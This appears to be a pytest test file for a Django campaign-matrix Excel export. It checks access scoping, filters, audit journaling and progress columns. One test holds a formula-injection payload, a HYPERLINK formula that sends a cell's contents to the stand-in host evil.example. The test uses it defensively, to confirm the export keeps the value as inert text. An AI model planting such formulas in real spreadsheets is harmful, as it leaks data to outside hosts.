"""The matrix as an Excel workbook, scoped like the page."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.campaigns.builders import assignment_of, mark_done, published_campaign


@pytest.fixture
def campaign(world):
    return published_campaign(world)


def url(campaign, query=""):
    return reverse("campaigns:campaign-export", args=[campaign.pk]) + query


def rows(response):
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.worksheets[0]
    return [tuple(r) for r in sheet.iter_rows(min_row=3, values_only=True)]


def test_anonymous_is_sent_to_login(campaign, client):
    assert client.get(url(campaign))["Location"].startswith(reverse("login"))


def test_post_is_not_allowed(world, campaign, client_for):
    assert client_for(world.province_admin).post(url(campaign)).status_code == 405


def test_admin_exports_every_assignment_with_its_state(world, campaign, client_for):
    mark_done(world, assignment_of(campaign, world.yanchang_bureau))
    response = client_for(world.province_admin).get(url(campaign))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    exported = {(r[0], r[3]) for r in rows(response)}
    assert ("宣传一批：集中宣传报道1", "延长县扶贫开发局") in exported
    assert len(exported) == 4


def test_a_unit_exports_its_own_rows_only(world, campaign, client_for):
    exported = rows(client_for(world.reporter).get(url(campaign)))
    assert {r[3] for r in exported} == {"延长县扶贫开发局"}


def test_filters_apply_to_the_export(world, campaign, client_for):
    mark_done(world, assignment_of(campaign, world.yanchang_bureau))
    exported = rows(client_for(world.province_admin).get(url(campaign, "?state=done")))
    assert len(exported) == 1


def test_outsider_gets_404(world, campaign, client_for):
    assert client_for(world.other_city_reviewer).get(url(campaign)).status_code == 404


def test_a_title_typed_as_a_formula_stays_text(world, campaign, client_for):
    from campaigns.models import Activity

    hostile = '=HYPERLINK("http://evil.example/?"&D3,"点击查看")'
    Activity.objects.filter(campaign=campaign).update(title=hostile)
    response = client_for(world.province_admin).get(url(campaign))
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    titles = [sheet.cell(row=3, column=1) for sheet in book.worksheets[:1]]
    titles += [book.worksheets[1].cell(row=2, column=1)]
    for cell in titles:
        assert (cell.value, cell.data_type) == (hostile, "s")


def test_the_export_is_journaled(world, campaign, client_for):
    from portal.models import JournalEntry

    client_for(world.province_admin).get(url(campaign), REMOTE_ADDR="10.2.3.4")
    entry = JournalEntry.objects.get(action="security.exported")
    assert (entry.actor, entry.address) == (world.province_admin, "10.2.3.4")
    assert (entry.data["what"], entry.data["count"]) == ("campaigns.matrix", 4)


def test_each_unit_row_carries_the_progress_it_filed(world, campaign, client_for):
    from tests.campaigns.builders import file_progress

    file_progress(world, assignment_of(campaign, world.yanchang_bureau))
    response = client_for(world.province_admin).get(url(campaign))
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.worksheets[0]
    headers = [c.value for c in sheet[2]]
    assert headers[-1] == "填报进展"
    filed = {(r[0], r[3]): r[-1] for r in sheet.iter_rows(min_row=3, values_only=True)}
    text = filed.pop(("宣传一批：集中宣传报道1", "延长县扶贫开发局"))
    assert "在延安日报发表报道两篇。" in text and "(2)" in text
    assert set(filed.values()) == {None}
